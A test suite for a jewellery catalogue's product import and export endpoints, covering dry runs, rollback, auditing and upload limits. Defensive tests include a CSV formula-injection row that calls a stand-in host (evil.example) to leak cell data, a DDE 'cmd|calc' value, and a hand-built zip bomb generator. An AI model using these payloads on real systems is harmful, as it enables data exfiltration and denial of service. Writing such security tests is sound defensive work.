import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, inArray, like } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import {
  IMPORT_MESSAGES,
  MAX_IMPORT_BYTES,
  PRODUCT_SHEET_COLUMNS,
  importReportSchema,
  type ImportProgressLine,
  type ImportReport,
} from '@zevar/domain';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { createCallers, multipart, type Callers } from '../../../test/catalogue-fixtures';
import { createCategory, createMetal, createPurity, uid } from '../../../test/factories';
import { auditLog, productPieces, products, stockAdjustments } from '../../db/schema';
import { createProductImport } from './apply-product-import';
import { readProductSheet } from './read-product-sheet';
import { Readable } from 'node:stream';
import { createDeflateRaw, crc32, deflateRawSync } from 'node:zlib';

/** A part of a hand-made zip: its bytes as stored, and what its headers declare. */
type ZipPart = { name: string; stored: Buffer; method: 0 | 8; unpacked: number; crc: number };
const deflated = (name: string, text: string): ZipPart => {
  const raw = Buffer.from(text);
  return { name, stored: deflateRawSync(raw), method: 8, unpacked: raw.length, crc: crc32(raw) };
};

/** `bytes` zero bytes, deflated as they stream (a zip bomb's part, made without holding it). */
async function zeros(name: string, bytes: number): Promise<ZipPart> {
  const out: Buffer[] = [];
  const deflate = createDeflateRaw({ level: 9 });
  deflate.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const chunk = Buffer.alloc(1024 * 1024);
  let crc = 0;
  for (let left = bytes; left > 0; left -= chunk.length) {
    const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
    crc = crc32(part, crc);
    if (!deflate.write(part)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return { name, stored: Buffer.concat(out), method: 8, unpacked: bytes, crc };
}

/** A zip of `parts`, sizes in the local headers (as Excel writes it). */
function zipOf(parts: ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(p.method, 8);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.stored.length, 18);
    local.writeUInt32LE(p.unpacked, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(p.method, 10);
    central.writeUInt32LE(p.crc >>> 0, 16);
    central.writeUInt32LE(p.stored.length, 20);
    central.writeUInt32LE(p.unpacked, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, p.stored);
    centrals.push(central, name);
    offset += 30 + name.length + p.stored.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** The smallest workbook the reader takes: one sheet of inline strings, rows of `cells` by reference. */
function workbookParts(rows: Array<Array<[string, string]>>): ZipPart[] {
  const esc = (v: string) => v.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  const sheet = rows
    .map(
      (cells, i) =>
        `<row r="${i + 1}">${cells.map(([ref, v]) => `<c r="${ref}${i + 1}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`).join('')}</row>`,
    )
    .join('');
  const ns = 'http://schemas.openxmlformats.org';
  return [
    deflated(
      '[Content_Types].xml',
      `<?xml version="1.0"?><Types xmlns="${ns}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    ),
    deflated(
      '_rels/.rels',
      `<?xml version="1.0"?><Relationships xmlns="${ns}/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    deflated(
      'xl/workbook.xml',
      `<?xml version="1.0"?><workbook xmlns="${ns}/spreadsheetml/2006/main" xmlns:r="${ns}/officeDocument/2006/relationships"><sheets><sheet name="Products" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    deflated(
      'xl/_rels/workbook.xml.rels',
      `<?xml version="1.0"?><Relationships xmlns="${ns}/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    deflated(
      'xl/worksheets/sheet1.xml',
      `<?xml version="1.0"?><worksheet xmlns="${ns}/spreadsheetml/2006/main"><sheetData>${sheet}</sheetData></worksheet>`,
    ),
  ];
}

/** Issue 23 item 5: product export, the import's dry run and its all-or-nothing apply. */
describe('product import and export', () => {
  let t: TestApp;
  let who: Callers;
  let category: { id: number; name: string };
  let gold: { id: number; name: string; ratePaise: number };
  beforeAll(async () => {
    t = await createTestApp();
    who = await createCallers(t.app, t.db);
    category = await createCategory(t.db, { name: `Rings ${uid()}` });
    gold = await createMetal(t.db, { name: `Gold ${uid()}`, ratePaise: 700_000 });
    await createPurity(t.db, gold, { name: '22K', fineness: 916, ratePaise: 641_200 });
  });
  afterAll(async () => t.close());

  const headerRow = PRODUCT_SHEET_COLUMNS.map((c) => c.header);
  type Row = Record<string, string>;
  type Built = Row & { SKU: string; 'Product Name': string };
  const csvOf = (rows: Row[], headers: string[] = headerRow) =>
    Buffer.from(stringify([headers, ...rows.map((r) => headers.map((h) => r[h] ?? ''))]));
  const mrpRow = (over: Row = {}): Built => ({
    SKU: `IMP-${uid()}`,
    'Product Name': `Imported Chain ${uid()}`,
    Status: 'active',
    'Price type': 'MRP',
    'Price (₹)': '1500',
    Metal: gold.name,
    Stock: '4',
    Category: category.name,
    Plan: 'FREE',
    ...over,
  });
  const goldRow = (over: Row = {}): Built =>
    mrpRow({
      'Price type': 'GOLD',
      'Price (₹)': '1',
      Purity: '22K',
      'Net Metal Weight (grams)': '2.5',
      'Making charge kind': 'PERCENT',
      'Making charge value': '10',
      ...over,
    });

  const upload = (
    path: string,
    body: Buffer,
    name = 'products.csv',
    type = 'text/csv',
    headers: Record<string, string> = who.products,
  ) => {
    const { payload, headers: h } = multipart(body, name, type);
    return t.app.inject({
      method: 'POST',
      url: `/api/products/import/${path}`,
      headers: { ...headers, ...h },
      payload,
    });
  };
  const check = async (body: Buffer, name?: string, type?: string) => {
    const res = await upload('check', body, name, type);
    expect(res.statusCode, res.body).toBe(200);
    return importReportSchema.parse(res.json());
  };
  const apply = async (body: Buffer, checksum: string) => {
    const res = await upload(`apply?checksum=${checksum}`, body);
    const lines =
      res.statusCode === 200
        ? res.body
            .trim()
            .split('\n')
            .map((l) => JSON.parse(l) as ImportProgressLine)
        : [];
    return { res, lines, report: lines.find((l) => l.type === 'report')?.report };
  };
  const bySku = async (sku: string) => (await t.db.select().from(products).where(eq(products.sku, sku)))[0];
  const exportCsv = async () => {
    const res = await t.app.inject({ url: '/api/products/export?format=csv', headers: who.products });
    expect(res.statusCode, res.body).toBe(200);
    return { res, rows: parse(res.rawPayload, { bom: true, columns: true }) as Row[] };
  };

  it('exports every field of the form by name, as CSV and as xlsx, and reads its own export back unchanged', async () => {
    const ring = goldRow({
      'BIS hallmarked': 'yes',
      HUIDs: 'AA11BB CC22DD',
      Stock: '2',
      Specifications: 'Size: 12',
    });
    const chain = mrpRow({ 'Original Price (₹)': '2000', Features: 'Light\nStrong' });
    const created = await check(csvOf([ring, chain]));
    expect(created.errors).toEqual([]);
    const applied = await apply(csvOf([ring, chain]), created.checksum);
    expect(applied.report?.created).toBe(2);

    const { res, rows } = await exportCsv();
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toMatch(
      /attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    expect(Object.keys(rows[0]!)).toEqual(headerRow as string[]);
    const exported = rows.find((r) => r.SKU === ring.SKU)!;
    expect(exported).toMatchObject({
      Metal: gold.name,
      Purity: '22K',
      Category: category.name,
      HUIDs: 'AA11BB CC22DD',
      'BIS hallmarked': 'yes',
      Specifications: 'Size: 12',
    });
    // The price is the server's: 22K rate × 2.5 g + 10 % making, with GST (the file's ₹1 ignored).
    expect(Number(exported['Price (₹)'])).toBeGreaterThan(16_000);

    const xlsx = await t.app.inject({ url: '/api/products/export?format=xlsx', headers: who.products });
    expect(xlsx.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect((sheet.getRow(1).values as string[]).slice(1)).toEqual(headerRow);

    // Both files read back as they are: every row unchanged.
    const again = await check(res.rawPayload);
    expect(again.errors).toEqual([]);
    expect(again.outcomes.filter((o) => [ring.SKU, chain.SKU].includes(o.sku))).toEqual([
      expect.objectContaining({ sku: ring.SKU, outcome: 'unchanged' }),
      expect.objectContaining({ sku: chain.SKU, outcome: 'unchanged' }),
    ]);
    const fromXlsx = await check(xlsx.rawPayload, 'products.xlsx', 'application/octet-stream');
    expect(fromXlsx.errors).toEqual([]);
    expect(fromXlsx.updated).toBe(0);
  });

  it('exports text that a spreadsheet would run as a formula as text, and reads it back unchanged', async () => {
    const evil = mrpRow({
      'Product Name': `=HYPERLINK("http://evil.example/?"&A1,"Open ${uid()}")`,
      Tagline: '+1+cmd|calc',
      Description: '@SUM(1,2)',
      Features: '-2+3',
    });
    const created = await check(csvOf([evil]));
    expect(created.errors).toEqual([]);
    expect((await apply(csvOf([evil]), created.checksum)).report?.created).toBe(1);

    const { res, rows } = await exportCsv();
    const exported = rows.find((r) => r.SKU === evil.SKU)!;
    for (const header of ['Product Name', 'Tagline', 'Description', 'Features'])
      expect(exported[header], header).toBe(`'${evil[header]}`);
    const again = await check(res.rawPayload);
    expect(again.errors).toEqual([]);
    expect(again.outcomes.find((o) => o.sku === evil.SKU)).toMatchObject({ outcome: 'unchanged' });
    expect((await bySku(evil.SKU))?.name).toBe(evil['Product Name']);
  });

  it('dry run: says per row what would change, and every error with its row and column; writes nothing', async () => {
    const a = mrpRow();
    const b = goldRow();
    const first = await check(csvOf([a, b]));
    await apply(csvOf([a, b]), first.checksum);
    const before = await bySku(a.SKU);

    const newRow = mrpRow();
    const report = await check(
      csvOf([
        { ...a, 'Price (₹)': '1750.50' },
        b,
        newRow,
        mrpRow({ Category: 'No Such Category' }),
        goldRow({ Purity: '23K' }),
        mrpRow({ SKU: a.SKU }),
        mrpRow({ Stock: 'many' }),
        mrpRow({ 'Product Name': a['Product Name'].toUpperCase() }),
      ]),
    );
    expect(report).toMatchObject({ rows: 8, created: 1, updated: 1, unchanged: 1, applied: false });
    expect(report.outcomes).toEqual([
      {
        row: 2,
        sku: a.SKU,
        outcome: 'updated',
        changes: [{ column: 'Price (₹)', before: '1500', after: '1750.5' }],
      },
      { row: 3, sku: b.SKU, outcome: 'unchanged' },
      { row: 4, sku: newRow.SKU, outcome: 'created' },
    ]);
    expect(report.errors).toEqual([
      { row: 5, column: 'Category', message: IMPORT_MESSAGES.unknownCategory('No Such Category') },
      { row: 6, column: 'Purity', message: `Unknown purity "23K" of ${gold.name} (known: 22K)` },
      { row: 7, column: 'SKU', message: IMPORT_MESSAGES.duplicateSku(2) },
      { row: 8, column: 'Stock', message: IMPORT_MESSAGES.notNumber },
      { row: 9, column: 'Product Name', message: IMPORT_MESSAGES.duplicateName(2) },
    ]);
    expect(await bySku(a.SKU)).toEqual(before);
    expect(await bySku(newRow.SKU)).toBeUndefined();
  });

  it('apply: creates and updates by SKU in one go, prices by the server, stock by recorded adjustments, audited', async () => {
    const a = mrpRow({ Stock: '5' });
    const g = goldRow();
    const first = await check(csvOf([a, g]));
    await apply(csvOf([a, g]), first.checksum);
    const ga = await bySku(g.SKU);

    // A partial file: only the columns it names change.
    const headers = ['SKU', 'Price (₹)', 'Stock', 'Net Metal Weight (grams)'];
    const file = csvOf(
      [
        { SKU: a.SKU, 'Price (₹)': '999', Stock: '8', 'Net Metal Weight (grams)': '0' },
        { SKU: g.SKU, 'Price (₹)': '5', Stock: '4', 'Net Metal Weight (grams)': '5' },
      ],
      headers,
    );
    const dry = await check(file);
    expect(dry.errors).toEqual([]);
    const { res, lines, report } = await apply(file, dry.checksum);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('application/x-ndjson');
    expect(lines[0]).toEqual({ type: 'progress', done: 2, total: 2 });
    expect(report).toMatchObject({ applied: true, updated: 2 });

    const after = await bySku(a.SKU);
    expect(after).toMatchObject({ pricePaise: 99_900, stock: 8, version: 2 });
    const gAfter = await bySku(g.SKU);
    // Twice the weight: about twice the price, whatever the file said (₹5).
    expect(gAfter!.pricePaise).toBeGreaterThan(ga!.pricePaise * 1.9);
    const adjustments = await t.db
      .select()
      .from(stockAdjustments)
      .where(eq(stockAdjustments.productId, after!.id));
    expect(adjustments).toEqual([
      expect.objectContaining({ change: 3, stockAfter: 8, reason: 'Import from products.csv' }),
    ]);
    const records = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entityType, 'product'), inArray(auditLog.entityId, [String(after!.id)])));
    expect(records.map((r) => r.action).sort()).toEqual(['import-create', 'import-update', 'stock']);
    const update = records.find((r) => r.action === 'import-update')!;
    expect(update.before).toMatchObject({ pricePaise: 150_000 });
    expect(update.after).toMatchObject({ pricePaise: 99_900 });
    expect(update.actorRoles).toEqual(['MANAGE_PRODUCTS']);
  });

  it('apply: refused while the file has errors, or when the catalogue moved since the dry run; nothing applied', async () => {
    const good = mrpRow();
    const bad = mrpRow({ Category: 'Nowhere' });
    const dry = await check(csvOf([good, bad]));
    const refused = await apply(csvOf([good, bad]), dry.checksum);
    expect(refused.res.statusCode).toBe(400);
    expect(refused.res.json()).toMatchObject({
      message: IMPORT_MESSAGES.hasErrors,
      issues: [{ path: 'row 3, Category', message: IMPORT_MESSAGES.unknownCategory('Nowhere') }],
    });
    expect(await bySku(good.SKU)).toBeUndefined();

    // Another file than the one checked, or the same file after the catalogue moved (a sale): refused.
    const clean = await check(csvOf([good]));
    const moved = await apply(csvOf([{ ...good, 'Price (₹)': '1600' }]), clean.checksum);
    expect(moved.res.statusCode).toBe(409);
    expect(moved.res.json().message).toBe(IMPORT_MESSAGES.changedSinceCheck);
    expect(await bySku(good.SKU)).toBeUndefined();

    await apply(csvOf([good]), clean.checksum);
    const edit = csvOf([{ ...good, 'Price (₹)': '1700' }]);
    const dryEdit = await check(edit);
    await t.db.update(products).set({ stock: 3 }).where(eq(products.sku, good.SKU));
    expect((await apply(edit, dryEdit.checksum)).res.statusCode).toBe(409);
    expect((await bySku(good.SKU))!.pricePaise).toBe(150_000);
  });

  // The last row of a file three lookup chunks (IN_CHUNK, 1,000 SKUs) and ten write batches (250
  // rows) long: an error past the first chunk and batch is found, and nothing is applied. (It was row
  // 9,000; the property is the same at a quarter of the rows and of the test's time.)
  it('an error in row 2,500 leaves nothing applied: the dry run names it and the apply is refused', async () => {
    const tag = `BULK${uid()}`;
    const rows = Array.from({ length: 2_499 }, (_, i) =>
      mrpRow({ SKU: `${tag}-${i}`, 'Product Name': `${tag} piece ${i}`, Stock: '1' }),
    );
    const file = csvOf(rows.map((r, i) => (i === 2_498 ? { ...r, Category: 'Missing' } : r)));
    const dry = await check(file);
    expect(dry.errors).toEqual([
      { row: 2_500, column: 'Category', message: IMPORT_MESSAGES.unknownCategory('Missing') },
    ]);
    expect((await apply(file, dry.checksum)).res.statusCode).toBe(400);
    expect(
      await t.db
        .select()
        .from(products)
        .where(like(products.sku, `${tag}-%`)),
    ).toEqual([]);

    expect(
      await t.db
        .select()
        .from(products)
        .where(like(products.sku, `${tag}-%`)),
    ).toEqual([]);
  }, 400_000);

  it('a write failing after the last batch rolls the whole import back', async () => {
    const tag = `ROLL${uid()}`;
    const rows = Array.from({ length: 1_200 }, (_, i) =>
      mrpRow({ SKU: `${tag}-${i}`, 'Product Name': `${tag} piece ${i}`, Stock: '1' }),
    );
    const sheet = await readProductSheet(Readable.from([csvOf(rows)]), () => false);
    const imports = createProductImport({ db: t.db, now: () => new Date(), config: t.config });
    const { checksum } = await imports.check(sheet);
    await expect(
      imports.apply(sheet, {
        checksum,
        fileName: 'big.csv',
        adjustedBy: 'test',
        onProgress: (done) => {
          if (done >= 1_200) throw new Error('disk full');
        },
      }),
    ).rejects.toThrow('disk full');
    expect(
      await t.db
        .select()
        .from(products)
        .where(like(products.sku, `${tag}-%`)),
    ).toEqual([]);
  }, 200_000);

  it('hallmarked pieces move by HUID; a HUID on another product is an error in its row', async () => {
    const h = goldRow({ 'BIS hallmarked': 'yes', HUIDs: 'HH11AA HH22BB', Stock: '2' });
    const dry = await check(csvOf([h]));
    await apply(csvOf([h]), dry.checksum);
    const other = goldRow({ 'BIS hallmarked': 'yes', HUIDs: 'HH11AA', Stock: '1' });
    const clash = await check(csvOf([other]));
    expect(clash.errors).toEqual([{ row: 2, column: 'HUIDs', message: IMPORT_MESSAGES.huidTaken('HH11AA') }]);

    const more = csvOf([{ ...h, HUIDs: 'HH22BB HH33CC HH44DD', Stock: '3' }]);
    const next = await check(more);
    expect(next.outcomes[0]).toMatchObject({
      outcome: 'updated',
      changes: [
        { column: 'HUIDs', before: 'HH11AA HH22BB', after: 'HH22BB HH33CC HH44DD' },
        { column: 'Stock', before: '2', after: '3' },
      ],
    });
    await apply(more, next.checksum);
    const p = (await bySku(h.SKU))!;
    expect(p.stock).toBe(3);
    const shelf = await t.db.select().from(productPieces).where(eq(productPieces.productId, p.id));
    expect(shelf.map((s) => s.huid).sort()).toEqual(['HH22BB', 'HH33CC', 'HH44DD']);
  });

  describe('uploads', () => {
    it('refuses what is not CSV or xlsx, by content, with a clear message', async () => {
      const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
      const res = await upload('check', png, 'products.csv');
      expect(res.statusCode).toBe(415);
      expect(res.json().message).toBe(IMPORT_MESSAGES.notSheet);
      const xls = Buffer.from('d0cf11e0a1b11ae1000000', 'hex');
      expect((await upload('check', xls, 'old.xls')).statusCode).toBe(415);
    });

    it('answers a malformed file with 4xx, never 500', async () => {
      const cases: Array<[Buffer, string]> = [
        [Buffer.from('SKU,Product Name\n"unclosed,quote\n'), 'products.csv'],
        [Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.alloc(200, 7)]), 'products.xlsx'],
        [Buffer.from(''), 'empty.csv'],
        [Buffer.from('SKU,Product Name\n'), 'header-only.csv'],
      ];
      for (const [body, name] of cases) {
        const res = await upload('check', body, name);
        expect(res.statusCode, `${name}: ${res.body}`).toBeGreaterThanOrEqual(400);
        expect(res.statusCode, `${name}: ${res.body}`).toBeLessThan(500);
        expect(res.json()).toHaveProperty('message');
      }
      const wrongHeaders = await check(Buffer.from('Name?,Price\nx,1\n'));
      expect(wrongHeaders.errors).toEqual([
        { row: 1, column: '', message: IMPORT_MESSAGES.unknownColumn('Name?') },
        { row: 1, column: '', message: IMPORT_MESSAGES.noSku },
      ]);
      const notMultipart = await t.app.inject({
        method: 'POST',
        url: '/api/products/import/check',
        headers: { ...who.products, 'content-type': 'text/csv' },
        payload: 'SKU\n1\n',
      });
      expect(notMultipart.statusCode).toBe(415);
    });

    it('refuses a zip bomb, a workbook of too many parts and a row of too many cells, before unpacking them', async () => {
      const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
      const row = mrpRow();
      const cells = (r: Row): Array<[string, string]> =>
        ['SKU', 'Product Name', 'Price (₹)'].map((h, i) => [String.fromCharCode(65 + i), r[h] ?? '']);
      const sheet = workbookParts([
        cells({ SKU: 'SKU', 'Product Name': 'Product Name', 'Price (₹)': 'Price (₹)' }),
        cells(row),
      ]);
      // The hand-made workbook itself is read.
      const plain = await upload('check', zipOf(sheet), 'products.xlsx', xlsx);
      expect(plain.statusCode, plain.body).toBe(200);

      // 200 MB of zeros in 200 KB: refused by what it declares, before anything is unpacked.
      const bomb = await zeros('xl/media/image1.png', 200 * 1024 * 1024);
      expect(bomb.stored.length).toBeLessThan(MAX_IMPORT_BYTES);
      const big = await upload('check', zipOf([...sheet, bomb]), 'products.xlsx', xlsx);
      expect(big.statusCode, big.body).toBe(413);
      expect(big.json()).toEqual({ code: 'PAYLOAD_TOO_LARGE', message: IMPORT_MESSAGES.tooLargeUnpacked });

      // The same part declaring 1 KB: refused once it unpacks past that, nothing kept.
      const lying = await upload(
        'check',
        zipOf([...sheet, { ...bomb, unpacked: 1024 }]),
        'products.xlsx',
        xlsx,
      );
      expect(lying.statusCode, lying.body).toBe(400);
      expect(lying.json()).toEqual({ code: 'BAD_REQUEST', message: IMPORT_MESSAGES.unreadable });

      const parts = Array.from({ length: 600 }, (_, i) => deflated(`xl/media/p${i}.xml`, '<x/>'));
      const many = await upload('check', zipOf([...sheet, ...parts]), 'products.xlsx', xlsx);
      expect(many.statusCode, many.body).toBe(400);
      expect(many.json().message).toBe(IMPORT_MESSAGES.tooManyParts);

      // A cell in the last column (XFD) would make the row 16,384 cells.
      const wide = workbookParts([
        cells({ SKU: 'SKU', 'Product Name': 'Product Name', 'Price (₹)': 'Price (₹)' }),
        [...cells(row), ['XFD', 'x']],
      ]);
      const tooWide = await upload('check', zipOf(wide), 'products.xlsx', xlsx);
      expect(tooWide.statusCode, tooWide.body).toBe(400);
      expect(tooWide.json().message).toBe(IMPORT_MESSAGES.tooManyColumns);
    }, 60_000);

    it('refuses a file over the size limit (413)', async () => {
      const big = Buffer.alloc(26 * 1024 * 1024, 'a');
      const res = await upload('check', big);
      expect(res.statusCode, res.body).toBe(413);
      expect(res.json().message).toBe(IMPORT_MESSAGES.tooLarge);
    }, 60_000);
  });

  it('only catalogue admins export and import', async () => {
    for (const headers of [who.anonymous, who.vendorA, who.orders, who.categories]) {
      const exp = await t.app.inject({ url: '/api/products/export', headers });
      expect([401, 403]).toContain(exp.statusCode);
      const imp = await upload('check', csvOf([mrpRow()]), 'p.csv', 'text/csv', headers);
      expect([401, 403]).toContain(imp.statusCode);
    }
    const report: ImportReport = await check(csvOf([mrpRow()]));
    expect(report.created).toBe(1);
  });
});
